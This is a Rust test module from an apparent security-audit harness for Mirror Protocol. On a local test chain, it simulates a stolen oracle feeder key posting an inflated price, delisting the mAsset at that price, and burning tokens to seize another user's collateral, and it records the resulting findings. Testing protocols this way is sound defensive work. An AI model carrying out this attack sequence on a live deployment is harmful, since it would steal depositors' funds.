//! A feeder who delists an asset at the price that he has just posted.

use cosmwasm_std::{Decimal, Uint128};
use mirror_testing::{percent, standard_profile, TestChain, World};
use serde_json::{json, Value};
use terraswap::asset::Asset;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, DAY, MILLION};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::transaction::Transaction;
use crate::attacks::trial::Trial;

pub(super) const ATTACK: Attack = Attack {
    name: "a feeder's own end price",
    story: "A stolen key posted half as much again and delisted the asset: the false price was \
            the end price at once and for ever, and whoever held the mAsset took all the \
            collateral of positions at 150 %.",
    run,
};

/// The collateral of bob's position, at a ratio of 150 %.
const OF_BOB: u128 = MILLION;
/// The debt of bob's position, at a price of 10.
const DEBT: u128 = OF_BOB / 15;
/// The collateral of carol's position, at a ratio of 400 %.
const OF_CAROL: u128 = 4 * MILLION;
/// How long a price outside the band has to wait for its confirmation, in seconds.
const BAND_WINDOW: u64 = 1_800;
/// How long a feeder's wish to delist has to wait if there is no guardian.
const NOTICE: u64 = 15 * DAY;

/// What the attacker does with the key.
#[derive(Clone, Copy)]
struct Plan {
    /// How many times half as much again is posted.
    posts: u32,
    /// How long the last price stands before the wish, in seconds.
    stands: u64,
    /// Whether the wish names the price itself.
    names_it: bool,
}

/// One post and the wish in the same block.
const AT_ONCE: Plan = Plan {
    posts: 1,
    stands: 0,
    names_it: false,
};

fn run() -> anyhow::Result<Findings> {
    let named = Plan {
        names_it: true,
        ..AT_ONCE
    };
    let later = Plan {
        stands: BAND_WINDOW - 60,
        ..AT_ONCE
    };
    let ways: anyhow::Result<Vec<Attempt>> =
        [AT_ONCE, named, later].map(delists).into_iter().collect();
    let patient = Plan {
        stands: BAND_WINDOW + 60,
        ..AT_ONCE
    };
    Ok(Findings {
        attempts: vec![Attempt::best(
            ways?,
            "posted half as much again, delisted at that price, named or not, at once or after \
             nearly half an hour, and burned the mAsset for what bob's position holds, now or when \
             the notice was over",
        )?],
        exposures: vec![
            delists(patient)?.exposes(
                "the false price stands for half an hour before the wish, and for 15 days nobody \
                 takes the wish back",
            ),
            freezes()?.exposes(
                "a wish at the right price: until it is taken back carol can not take out what \
                 she has above the minimum",
            ),
        ],
    })
}

fn delists(plan: Plan) -> anyhow::Result<Attempt> {
    let mut trial = prepared()?;
    let oracle = trial.world.at.oracle.clone();
    let token = trial.world.token("mAAPL");
    let mut price = fixtures::price("10")?;
    for _ in 0..plan.posts {
        price = price.checked_mul(percent(150))?;
        trial.does(Transaction::new().feeds(&oracle, &token, price))?;
    }
    if plan.stands > 0 {
        trial.world.chain.pass(plan.stands);
        trial.does(Transaction::new().feeds(&oracle, &token, price))?;
    }
    let factory = trial.world.at.factory.clone();
    let end_price = plan.names_it.then_some(price);
    let revoke = revocation(&trial, end_price);
    trial.tries("T-75", Transaction::new().calls(&factory, &revoke))?;
    burns(&mut trial)?;

    trial.world.chain.pass(NOTICE);
    let execute = json!({ "execute_delisting": { "asset_token": token } });
    trial.tries("T-75", Transaction::new().calls(&factory, &execute))?;
    burns(&mut trial)?;
    trial.ends(String::new())
}

/// The wish stops all new debt, and withdrawals from positions with debt.
fn freezes() -> anyhow::Result<Attempt> {
    let mut trial = prepared()?;
    let factory = trial.world.at.factory.clone();
    let revoke = revocation(&trial, None);
    trial.does(Transaction::new().calls(&factory, &revoke))?;
    let free = OF_CAROL / 2;
    let answer = trial
        .world
        .carol()
        .tries_to_withdraw(Uint128::new(2), Some(free));
    let stuck = if answer.is_ok() { 0 } else { free };
    trial.adds_loss(stuck.into());
    trial.ends(String::new())
}

/// The message that delists the asset.
fn revocation(trial: &Trial, end_price: Option<Decimal>) -> Value {
    let asset_token = trial.world.token("mAAPL");
    json!({ "revoke_asset": { "asset_token": asset_token, "end_price": end_price } })
}

/// The attacker has as much mAAPL as bob owes, and the feeder's key.
fn prepared() -> anyhow::Result<Trial> {
    let profile = standard_profile(&TestChain::new());
    let mut world = World::deployed_as(profile).with_asset("mAAPL", "10");
    world.bob().opens(OF_BOB, "mAAPL", percent(150));
    world.carol().opens(OF_CAROL, "mAAPL", percent(400));
    let (token, attacker) = (world.token("mAAPL"), world.chain.account("attacker"));
    world.carol().gives(&token, DEBT, &attacker);
    fixtures::hands_feed_to(&mut world, "mAAPL", "attacker")?;
    let mut trial = Trial::new(world, &[("mAAPL", fixtures::price("10")?)])?;
    let oracle = trial.world.at.oracle.clone();
    trial.does(Transaction::new().feeds(&oracle, &token, fixtures::price("10")?))?;
    trial.world.chain.pass(6);
    trial.measures("bob")?;
    Ok(trial)
}

/// The attacker burns his mAAPL for the collateral of bob's position, which is the first.
fn burns(trial: &mut Trial) -> anyhow::Result<()> {
    let (mint, token) = (trial.world.at.mint.clone(), trial.world.token("mAAPL"));
    let held = trial.world.token_balance(&token, &trial.attacker);
    let debt = Asset::token(&token, held);
    if !held.is_zero() {
        trial.tries(
            "T-75",
            Transaction::new().burns(&mint, Uint128::one(), debt),
        )?;
    }
    Ok(())
}
